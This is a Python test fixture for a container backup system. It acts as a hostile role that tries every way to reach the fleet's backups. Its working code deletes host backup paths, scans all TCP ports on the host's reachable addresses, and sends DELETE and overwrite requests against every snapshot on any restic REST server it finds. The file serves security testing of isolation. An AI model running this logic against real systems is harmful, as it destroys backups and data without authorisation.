"""A hostile role: every way its own scripts could reach the fleet's backups, tried.

``targets.json`` (beside this file, written by the test) names the host's paths of the
fleet's state and backup repository. Each mode tries to delete them, and ``dump`` and
``serve`` also look for a restic REST server (corral's append-only server, while a
backup runs) on every TCP port of every address the container can name for the host,
and try to delete or overwrite every snapshot on one that answers:

- ``attack``: a build step (``run:``); writes its report into the image;
- ``serve``: the role's program; attacks at start, serves ``/healthz`` and ``/report``;
- ``dump``: the volume's dump command, run while the backup's server is up; its report
  is the backup's content, so the test reads what it saw from the snapshot itself;
- ``restore``: reads its input to the end; ``probe PORT``: the network attack against
  127.0.0.1 ports PORT-5..PORT+5, for the test to prove the scanner finds a server.
"""

from __future__ import annotations

import contextlib
import http.client
import http.server
import json
import os
import resource
import select
import shutil
import socket
import sys
import threading
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
REPORT: dict[str, object] = {}


def delete_paths() -> dict[str, str]:
    """Try to remove each target; what happened to each ("absent" is the only safe answer)."""
    outcome = {}
    for target in json.loads((HERE / "targets.json").read_text()):
        path = Path(target)
        try:
            if not path.exists():
                outcome[target] = "absent"
                continue
            if path.is_dir():
                shutil.rmtree(path)
            else:
                path.unlink()
            outcome[target] = "removed"
        except OSError as exc:
            outcome[target] = f"error: {exc}"
    return outcome


def host_addresses() -> list[str]:
    """Every address this container can name for the host: its default gateway, the
    names podman offers for the host, and its own loopback."""
    found = {"127.0.0.1"}
    try:
        for line in Path("/proc/net/route").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[1] == "00000000":
                found.add(socket.inet_ntoa(int(fields[2], 16).to_bytes(4, "little")))
    except (OSError, IndexError, ValueError):
        pass
    for name in ("host.containers.internal", "host.docker.internal", "gateway"):
        with contextlib.suppress(OSError):
            found.update(info[4][0] for info in socket.getaddrinfo(name, None, socket.AF_INET))
    return sorted(found)


def scan(address: str, ports: range, wait: float = 0.15) -> list[int]:
    """The ports of ``address`` that accept a TCP connection: non-blocking connects, as
    many at a time as the open-file limit allows, each given ``wait`` seconds (the host
    is one hop away)."""
    batch = max(16, min(4000, resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 64))
    found = []
    todo = list(ports)
    for start in range(0, len(todo), batch):
        poller = select.epoll()
        pending = {}
        for port in todo[start : start + batch]:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setblocking(False)
            sock.connect_ex((address, port))
            pending[sock.fileno()] = (sock, port)
            poller.register(sock, select.EPOLLOUT)
        deadline = time.monotonic() + wait
        while pending and (left := deadline - time.monotonic()) > 0:
            for fd, _ in poller.poll(left):
                sock, port = pending.pop(fd)
                poller.unregister(fd)
                if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    found.append(port)
                sock.close()
        for sock, _ in pending.values():
            sock.close()
        poller.close()
    return found


def _request(address: str, port: int, method: str, path: str, body: bytes | None = None) -> int:
    conn = http.client.HTTPConnection(address, port, timeout=2)
    try:
        headers = {"Accept": "application/vnd.x.restic.rest.v2"}
        conn.request(method, path, body=body, headers=headers)
        answer = conn.getresponse()
        answer.read()
        return answer.status
    finally:
        conn.close()


def _snapshots(address: str, port: int) -> list[str] | None:
    conn = http.client.HTTPConnection(address, port, timeout=2)
    try:
        conn.request("GET", "/snapshots/", headers={"Accept": "application/vnd.x.restic.rest.v2"})
        answer = conn.getresponse()
        data = answer.read()
        if answer.status != 200:
            return None
        return [str(item["name"]) for item in json.loads(data)]
    except (OSError, ValueError, KeyError, TypeError, http.client.HTTPException):
        return None
    finally:
        conn.close()


def attack_servers(addresses: list[str], ports: range) -> list[dict[str, object]]:
    """Each restic server found: its address, and what a DELETE and an overwrite of every
    snapshot (and of the config) got."""
    servers = []
    for address in addresses:
        for port in scan(address, ports):
            names = _snapshots(address, port)
            if names is None:
                continue
            tried = {}
            for name in [*(f"snapshots/{n}" for n in names), "config"]:
                for method, body in (("DELETE", None), ("POST", b"rewritten")):
                    what = f"{method} {name}"
                    try:
                        tried[what] = _request(address, port, method, "/" + name, body)
                    except (OSError, http.client.HTTPException) as exc:
                        tried[what] = str(exc)
            servers.append({"address": f"{address}:{port}", "snapshots": names, "tried": tried})
    return servers


def attack(network: bool) -> dict[str, object]:
    report: dict[str, object] = {"deleted": delete_paths(), "uid": os.getuid()}
    if network:
        addresses = host_addresses()
        report["addresses"] = addresses
        report["servers"] = attack_servers(addresses, range(1, 65536))
    return report


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        if self.path == "/healthz":
            body = b"ok"
        elif self.path == "/report":
            build = json.loads((HERE / "build-report.json").read_text())
            body = json.dumps({"build": build, "serve": REPORT}).encode()
        else:
            self.send_error(404)
            return
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


def serve() -> None:
    def run() -> None:
        REPORT.update(attack(network=True), done=True)

    threading.Thread(target=run, daemon=True).start()
    http.server.ThreadingHTTPServer(("0.0.0.0", 8000), Handler).serve_forever()


def main(mode: str, *args: str) -> None:
    if mode == "attack":
        (HERE / "build-report.json").write_text(json.dumps(attack(network=False)))
    elif mode == "serve":
        serve()
    elif mode == "dump":
        sys.stdout.write(json.dumps(attack(network=True)) + "\n")
    elif mode == "restore":
        sys.stdin.buffer.read()
    elif mode == "probe":
        port = int(args[0])
        found = attack_servers(["127.0.0.1"], range(port - 5, port + 6))
        sys.stdout.write(json.dumps(found) + "\n")
    else:
        raise SystemExit(f"unknown mode {mode!r}")


if __name__ == "__main__":
    main(*sys.argv[1:])
